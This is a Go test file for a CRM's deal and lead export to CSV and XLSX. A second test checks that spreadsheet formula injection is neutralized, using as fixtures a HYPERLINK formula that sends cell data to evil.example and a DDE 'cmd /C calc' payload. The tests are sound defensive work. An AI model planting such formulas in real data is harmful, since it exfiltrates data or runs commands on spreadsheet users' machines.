package web_test

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/obmen/obmen/internal/crm"
)

// TestExportForExcel: a list exports as CSV for a Russian Excel by
// default (";" between values, a decimal comma, dates dd.mm.yyyy), as CSV
// with "," and a decimal point on request, and as an XLSX workbook whose
// amounts are number cells and dates date cells.
func TestExportForExcel(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		d := crm.Deal{Title: "Баннер; 3×6", Opportunity: 300150, Probability: 40, BeginDate: "2026-12-04"}
		if _, err := e.app.Store.CreateDeal(ctx, e.admin, d); err != nil {
			t.Fatal(err)
		}
		b := e.browser()
		b.signIn()
		list := b.get("/e/deal")
		for _, id := range []string{`id="export-xlsx"`, `id="export-csv"`, `id="export-csv-comma"`} {
			if !strings.Contains(list.Body, id) {
				t.Errorf("the list offers no %s", id)
			}
		}
		const cols = "cols=title&cols=opportunity&cols=probability&cols=begin_date"
		csv := b.get("/e/deal/export.csv?" + cols)
		if csv.Status != http.StatusOK {
			t.Fatalf("CSV: %d", csv.Status)
		}
		if !strings.HasPrefix(csv.Body, "\xEF\xBB\xBF№;Название;Сумма;Вероятность, %;Дата начала\n") {
			t.Errorf("CSV head: %q", csv.Body)
		}
		if !strings.Contains(csv.Body, `;"Баннер; 3×6";3001,50;40;04.12.2026`+"\n") {
			t.Errorf("CSV for Excel: %q", csv.Body)
		}
		csv = b.get("/e/deal/export.csv?" + cols + "&sep=comma&decimal=point")
		if !strings.Contains(csv.Body, ",Баннер; 3×6,3001.50,40,04.12.2026\n") {
			t.Errorf("CSV with commas: %q", csv.Body)
		}

		x := b.get("/e/deal/export.xlsx?" + cols)
		if x.Status != http.StatusOK || x.Header.Get("Content-Type") != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
			t.Fatalf("XLSX: %d %s", x.Status, x.Header.Get("Content-Type"))
		}
		f, err := excelize.OpenReader(strings.NewReader(x.Body))
		if err != nil {
			t.Fatalf("open the XLSX: %v", err)
		}
		defer f.Close()
		sheet := f.GetSheetName(0)
		if sheet != "Сделки" {
			t.Errorf("sheet %q", sheet)
		}
		for cell, want := range map[string]string{"A1": "№", "B1": "Название", "C1": "Сумма", "E1": "Дата начала", "B2": "Баннер; 3×6"} {
			if got, _ := f.GetCellValue(sheet, cell); got != want {
				t.Errorf("%s = %q, want %q", cell, got, want)
			}
		}
		for cell, want := range map[string]string{"C2": "3001.5", "D2": "40"} {
			typ, _ := f.GetCellType(sheet, cell)
			raw, _ := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
			if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber || raw != want {
				t.Errorf("%s: type %v, raw %q; want the number %s", cell, typ, raw, want)
			}
		}
		if got, _ := f.GetCellValue(sheet, "C2"); got != "3,001.50" {
			t.Errorf("C2 shown as %q", got)
		}
		// A date is a serial number shown through a date format.
		raw, _ := f.GetCellValue(sheet, "E2", excelize.Options{RawCellValue: true})
		if raw != "46360" {
			t.Errorf("E2 raw %q, want the serial of 2026-12-04", raw)
		}
		if got, _ := f.GetCellValue(sheet, "E2"); got != "04.12.2026" {
			t.Errorf("E2 shown as %q", got)
		}
		rows, _ := f.GetRows(sheet)
		if len(rows) != 2 {
			t.Errorf("%d rows, want a header and one deal", len(rows))
		}
	})
}

// TestExportNeutralizesFormulas: text that a public web form can plant
// (a lead's title, a UTM campaign) is exported so that a spreadsheet does
// not run it: CSV cells that begin with = + - @ get a leading apostrophe
// (OWASP), phone numbers and negative amounts stay as they are, and the
// XLSX writes such text as a string cell, never as a formula.
func TestExportNeutralizesFormulas(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		const evil = `=HYPERLINK("http://evil.example/?"&A1,"Открыть")`
		l := crm.Lead{Title: evil, SourceID: "WEB", UTM: crm.UTM{UTMCampaign: "@SUM(1+1)*cmd|' /C calc'!A0"},
			Comms: crm.Comms{Phones: []crm.Comm{{Value: "+7 999 123-45-67", ValueType: "WORK"}}}}
		if _, err := e.app.Store.CreateLead(ctx, e.admin, l); err != nil {
			t.Fatal(err)
		}
		b := e.browser()
		b.signIn()
		csv := b.get("/e/lead/export.csv?cols=title&cols=phones")
		if csv.Status != http.StatusOK {
			t.Fatalf("CSV: %d %s", csv.Status, csv.Body)
		}
		if !strings.Contains(csv.Body, `;"'=HYPERLINK(""http://evil.example/?""&A1,""Открыть"")"`) {
			t.Errorf("the formula is not neutralized in the list CSV: %q", csv.Body)
		}
		if strings.Contains(csv.Body, ";=") || strings.Contains(csv.Body, `;"=`) {
			t.Errorf("a cell still begins with '=': %q", csv.Body)
		}
		if !strings.Contains(csv.Body, "+7 999 123-45-67") || strings.Contains(csv.Body, "'+7") {
			t.Errorf("the phone number should stay as it is: %q", csv.Body)
		}
		rep := b.get("/reports/export.csv?table=leads_campaign")
		if rep.Status != http.StatusOK || !strings.Contains(rep.Body, "'@SUM(1+1)*cmd|' /C calc'!A0") {
			t.Errorf("report CSV: %d %q", rep.Status, rep.Body)
		}
		x := b.get("/e/lead/export.xlsx?cols=title")
		f, err := excelize.OpenReader(strings.NewReader(x.Body))
		if err != nil {
			t.Fatalf("open the XLSX: %v", err)
		}
		defer f.Close()
		sheet := f.GetSheetName(0)
		if formula, _ := f.GetCellFormula(sheet, "B2"); formula != "" {
			t.Errorf("B2 is a formula: %q", formula)
		}
		if typ, _ := f.GetCellType(sheet, "B2"); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("B2 has type %v, want a string cell", typ)
		}
		if got, _ := f.GetCellValue(sheet, "B2"); got != evil {
			t.Errorf("B2 = %q, want the text as typed", got)
		}
	})
}
